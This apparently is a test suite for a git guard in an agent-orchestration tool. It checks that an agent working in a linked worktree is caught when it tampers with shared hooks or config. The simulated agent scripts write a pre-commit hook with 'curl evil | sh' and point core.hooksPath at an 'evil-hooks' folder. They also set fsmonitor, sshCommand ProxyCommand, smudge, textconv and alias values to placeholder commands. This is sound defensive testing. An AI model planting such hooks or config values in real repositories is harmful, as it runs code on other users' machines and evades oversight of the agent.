// Hazard 11 with real git: an agent running in a linked worktree changes the shared repository's
// git config or hooks; snapshotGitGuard/diffGitGuard (taken around the turn) report it, and
// harmless changes are not reported.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execCollect, runAgentProcess } from '../../src/swarm/proc';
import { diffGitGuard, snapshotGitGuard } from '../../src/swarm/guard';

const ID = { GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@t' };

async function git(cwd: string, ...args: string[]): Promise<string> {
  const r = await execCollect(['git', ...args], { cwd, env: { ...process.env, ...ID } });
  assert.equal(r.exitCode, 0, `git ${args.join(' ')}: ${r.stderr}`);
  return r.stdout.trim();
}

async function repoWithWorktree(): Promise<{ root: string; repo: string; wt: string; cleanup: () => void }> {
  const root = mkdtempSync(join(tmpdir(), 'swarm-guard-'));
  const repo = join(root, 'repo');
  mkdirSync(repo);
  await git(repo, 'init', '-q', '-b', 'main');
  writeFileSync(join(repo, 'a.txt'), 'a\n');
  await git(repo, 'add', 'a.txt');
  await git(repo, 'commit', '-q', '-m', 'init');
  const wt = join(root, 'wt');
  await git(repo, 'worktree', 'add', '-q', '-b', 'task', wt);
  return { root, repo, wt, cleanup: () => rmSync(root, { recursive: true, force: true }) };
}

/** Run a shell script as an "agent" would: cwd = the worktree, its own process group. */
async function agent(wt: string, script: string): Promise<void> {
  const r = await runAgentProcess({ argv: ['bash', '-ec', script], cwd: wt, env: { ...process.env, ...ID }, timeoutMs: 20_000 });
  assert.equal(r.exitCode, 0, r.stderrTail);
}

test('guard: nothing changed → no findings; harmless config and worktree edits are not reported', async () => {
  const { repo, wt, cleanup } = await repoWithWorktree();
  try {
    const before = await snapshotGitGuard(repo);
    assert.deepEqual(diffGitGuard(before, await snapshotGitGuard(repo)), []);
    await agent(
      wt,
      'git config user.email agent@example.com; git config color.ui false; echo x > b.txt; git add b.txt; git commit -qm b; cp "$(git rev-parse --git-common-dir)/hooks/pre-commit.sample" "$(git rev-parse --git-common-dir)/hooks/pre-push.sample" 2>/dev/null || true',
    );
    assert.deepEqual(diffGitGuard(before, await snapshotGitGuard(repo)), []);
  } finally {
    cleanup();
  }
});

test('guard: an agent that sets core.hooksPath from its worktree is detected (and the hooks there are watched)', async () => {
  const { repo, wt, root, cleanup } = await repoWithWorktree();
  try {
    const evil = join(root, 'evil-hooks');
    const before = await snapshotGitGuard(repo);
    await agent(
      wt,
      `mkdir -p ${evil}; printf '#!/bin/sh\\necho pwned\\n' > ${evil}/post-checkout; chmod +x ${evil}/post-checkout; git config core.hooksPath ${evil}`,
    );
    const after = await snapshotGitGuard(repo);
    const findings = diffGitGuard(before, after);
    assert.ok(
      findings.some((f) => /git config core\.hookspath set to ".*evil-hooks" in \.git\/config \(was unset\)/i.test(f)),
      findings.join('\n'),
    );
    assert.ok(
      findings.some((f) => /hook .*evil-hooks\/post-checkout added \(executable\)/.test(f)),
      findings.join('\n'),
    );
    // Changing a hook inside the (already configured) hooksPath folder is a change too.
    writeFileSync(join(evil, 'post-checkout'), '#!/bin/sh\necho more\n');
    assert.ok(diffGitGuard(after, await snapshotGitGuard(repo)).some((f) => /post-checkout changed/.test(f)));
  } finally {
    cleanup();
  }
});

test('guard: writing .git/hooks/pre-commit (found through the worktree) is detected; chmod +x and removal too', async () => {
  const { repo, wt, cleanup } = await repoWithWorktree();
  try {
    const before = await snapshotGitGuard(repo);
    await agent(wt, `h="$(git rev-parse --git-common-dir)/hooks"; printf '#!/bin/sh\\ncurl evil | sh\\n' > "$h/pre-commit"`);
    const s1 = await snapshotGitGuard(repo);
    assert.deepEqual(diffGitGuard(before, s1), ['hook .git/hooks/pre-commit added']);
    chmodSync(join(repo, '.git', 'hooks', 'pre-commit'), 0o755);
    const s2 = await snapshotGitGuard(repo);
    assert.deepEqual(diffGitGuard(s1, s2), ['hook .git/hooks/pre-commit became executable']);
    rmSync(join(repo, '.git', 'hooks', 'pre-commit'));
    assert.deepEqual(diffGitGuard(s2, await snapshotGitGuard(repo)), ['hook .git/hooks/pre-commit removed']);
  } finally {
    cleanup();
  }
});

test('guard: fsmonitor in a per-worktree config.worktree, sshCommand, filter/diff drivers and aliases are detected', async () => {
  const { repo, wt, cleanup } = await repoWithWorktree();
  try {
    const before = await snapshotGitGuard(repo);
    await agent(
      wt,
      [
        'git config extensions.worktreeConfig true',
        'git config --worktree core.fsmonitor "sh -c evil"',
        'git config core.sshCommand "ssh -o ProxyCommand=evil"',
        'git config filter.x.smudge "evil smudge"',
        'git config diff.y.textconv "evil textconv"',
        'git config alias.st "!evil"',
      ].join('\n'),
    );
    const findings = diffGitGuard(before, await snapshotGitGuard(repo));
    const text = findings.join('\n');
    assert.match(text, /core\.fsmonitor set to "sh -c evil" in \.git\/worktrees\/wt\/config\.worktree/);
    assert.match(text, /extensions\.worktreeconfig set to "true" in \.git\/config/);
    assert.match(text, /core\.sshcommand set to/);
    assert.match(text, /filter\.x\.smudge set to "evil smudge"/);
    assert.match(text, /diff\.y\.textconv set to "evil textconv"/);
    assert.match(text, /alias\.st set to "!evil"/);
    assert.equal(findings.length, 6, text);
  } finally {
    cleanup();
  }
});

test('guard: a change to a file the local config includes is detected; changed and removed values are described', async () => {
  const { repo, wt, root, cleanup } = await repoWithWorktree();
  try {
    const inc = join(root, 'extra.gitconfig');
    writeFileSync(inc, '[core]\n\tpager = less\n');
    await git(repo, 'config', 'include.path', inc);
    await git(repo, 'config', 'core.editor', 'vi');
    const before = await snapshotGitGuard(repo);
    await agent(wt, `printf '[core]\\n\\tpager = evil\\n' > ${inc}; git config core.editor "evil-editor"; git config --unset include.path`);
    const findings = diffGitGuard(before, await snapshotGitGuard(repo));
    const text = findings.join('\n');
    assert.match(text, /included config file .*extra\.gitconfig changed|included config file .*extra\.gitconfig removed/);
    assert.match(text, /git config core\.editor in \.git\/config changed from "vi" to "evil-editor"/);
    assert.match(text, /git config include\.path removed from \.git\/config/);
  } finally {
    cleanup();
  }
});

test('guard: the snapshot is taken the same way from the repo root or from a worktree path', async () => {
  const { repo, wt, cleanup } = await repoWithWorktree();
  try {
    const a = await snapshotGitGuard(repo);
    const b = await snapshotGitGuard(wt);
    assert.equal(a.commonDir, b.commonDir);
    assert.deepEqual(diffGitGuard(a, b), []);
    await assert.rejects(snapshotGitGuard(tmpdir() + '/definitely-not-a-repo-' + Date.now()), /not a git repository|ENOENT|spawn/);
  } finally {
    cleanup();
  }
});
